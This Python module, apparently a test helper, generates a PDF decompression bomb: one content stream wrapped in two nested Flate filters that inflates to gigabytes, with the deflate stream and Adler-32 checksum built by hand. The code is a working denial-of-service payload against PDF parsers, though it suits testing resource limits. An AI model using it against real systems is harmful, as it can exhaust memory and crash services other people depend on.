"""A Flate decompression bomb, built in a few milliseconds: a small PDF whose one content
stream inflates to gigabytes through two nested ``/FlateDecode`` filters."""

from __future__ import annotations

import zlib
from pathlib import Path

CHUNK = 16 * 1024 * 1024


def deflate_zeros(total: int) -> bytes:
    """A zlib stream of ``total`` zero bytes, built from one compressed chunk repeated.

    After a full flush deflate blocks are byte-aligned and independent, so the compressed
    form of each 16 MiB chunk of zeros is the same bytes; the checksum is set by hand
    (Adler-32 of n zeros is 1 + (n mod 65521) << 16).
    """
    squeezer = zlib.compressobj(9)
    head = squeezer.compress(bytes(CHUNK)) + squeezer.flush(zlib.Z_FULL_FLUSH)
    repeat = squeezer.compress(bytes(CHUNK)) + squeezer.flush(zlib.Z_FULL_FLUSH)
    tail = squeezer.flush()[:-4]  # the empty final block, without the checksum
    chunks = total // CHUNK
    adler = ((chunks * CHUNK) % 65521) << 16 | 1
    return head + repeat * (chunks - 1) + tail + adler.to_bytes(4, "big")


def flate_bomb_pdf(path: Path, inflated: int = 4 * 1024**3) -> Path:
    """One page whose content stream inflates to ``inflated`` bytes (default 4 GiB)."""
    stream = zlib.compress(deflate_zeros(inflated), 9)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n" % len(stream)
        + stream
        + b"\nendstream",
    ]
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    path.write_bytes(bytes(out))
    return path
